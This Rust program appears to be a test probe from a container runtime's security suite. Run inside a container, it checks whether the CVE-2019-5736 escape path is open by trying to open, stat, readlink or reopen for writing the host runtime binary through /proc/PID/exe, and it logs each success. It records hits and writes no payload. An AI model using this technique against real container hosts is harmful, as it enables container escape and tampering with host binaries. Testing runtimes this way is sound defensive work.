//! Runs inside a container (compiled static by escapes.rs, std only): the
//! CVE-2019-5736 attacker. Spins over the newest pids in its pid namespace
//! trying to reach the husk binary through /proc/PID/exe (open read-only,
//! open for writing, reopen an obtained fd for writing, stat, readlink) and
//! /proc/PID/maps, until OUT/stop appears. Writes OUT/result: one line per
//! success against the husk binary ("HIT ..."), then counters.
//!
//! argv: attacker HUSK_DEV HUSK_INO HUSK_NAME OUT

use std::fs::{self, File, OpenOptions};
use std::io::{ErrorKind, Read, Write};
use std::os::unix::fs::MetadataExt;
use std::os::unix::io::AsRawFd;
use std::path::Path;
use std::time::{Duration, Instant};

fn max_pid(me: u32) -> u32 {
    fs::read_dir("/proc")
        .map(|d| {
            d.flatten()
                .filter_map(|e| e.file_name().to_str()?.parse::<u32>().ok())
                .filter(|p| *p != me)
                .max()
                .unwrap_or(1)
        })
        .unwrap_or(1)
}

fn main() {
    let a: Vec<String> = std::env::args().collect();
    let key: (u64, u64) = (a[1].parse().unwrap(), a[2].parse().unwrap());
    let name = a[3].clone();
    let out = Path::new(&a[4]).to_path_buf();
    let me = std::process::id();
    let is_husk = |m: &fs::Metadata| (m.dev(), m.ino()) == key;
    let mut hits: Vec<String> = Vec::new();
    let (mut iterations, mut denied, mut seen) = (0u64, 0u64, 0u64);
    let mut kept: Vec<File> = Vec::new();
    let mut top = max_pid(me);
    let deadline = Instant::now() + Duration::from_secs(300);
    fs::write(out.join("ready"), "").unwrap();
    while Instant::now() < deadline {
        iterations += 1;
        if iterations % 64 == 0 {
            top = max_pid(me);
            if out.join("stop").exists() {
                break;
            }
        }
        for pid in top.saturating_sub(1)..=top + 4 {
            if pid == me || pid == 0 {
                continue;
            }
            let exe = format!("/proc/{pid}/exe");
            match File::open(&exe) {
                Ok(f) => {
                    seen += 1;
                    if f.metadata().is_ok_and(|m| is_husk(&m)) {
                        hits.push(format!("HIT open-ro {exe}"));
                        // The CVE: reopen the fd for writing once husk exits.
                        let p = format!("/proc/self/fd/{}", f.as_raw_fd());
                        if OpenOptions::new().write(true).open(&p).is_ok() {
                            hits.push(format!("HIT reopen-wr {exe}"));
                        }
                        kept.push(f);
                    }
                }
                Err(e) if e.kind() == ErrorKind::PermissionDenied => {
                    seen += 1;
                    denied += 1;
                }
                Err(_) => {}
            }
            if let Ok(f) = OpenOptions::new().write(true).open(&exe) {
                if f.metadata().is_ok_and(|m| is_husk(&m)) {
                    hits.push(format!("HIT open-wr {exe}"));
                }
            }
            if OpenOptions::new()
                .read(true)
                .write(true)
                .open(&exe)
                .is_ok_and(|f| f.metadata().is_ok_and(|m| is_husk(&m)))
            {
                hits.push(format!("HIT open-rw {exe}"));
            }
            if fs::metadata(&exe).is_ok_and(|m| is_husk(&m)) {
                hits.push(format!("HIT stat {exe}"));
            }
            if fs::read_link(&exe).is_ok_and(|l| l.to_string_lossy().ends_with(&*name)) {
                hits.push(format!("HIT readlink {exe}"));
            }
            let mut maps = String::new();
            if File::open(format!("/proc/{pid}/maps"))
                .and_then(|mut f| f.read_to_string(&mut maps))
                .is_ok()
                && maps.lines().any(|l| l.ends_with(&format!("/{name}")))
            {
                hits.push(format!("HIT maps /proc/{pid}/maps"));
            }
        }
        if hits.len() > 100 {
            break;
        }
    }
    // Any fd obtained: try once more for writing now that husk has exited.
    for f in &kept {
        let p = format!("/proc/self/fd/{}", f.as_raw_fd());
        if OpenOptions::new().write(true).open(&p).is_ok() {
            hits.push(format!("HIT reopen-wr-late {p}"));
        }
    }
    let mut r = File::create(out.join("result.tmp")).unwrap();
    for h in &hits {
        writeln!(r, "{h}").unwrap();
    }
    writeln!(r, "iterations {iterations} seen {seen} denied {denied}").unwrap();
    drop(r);
    fs::rename(out.join("result.tmp"), out.join("result")).unwrap();
}
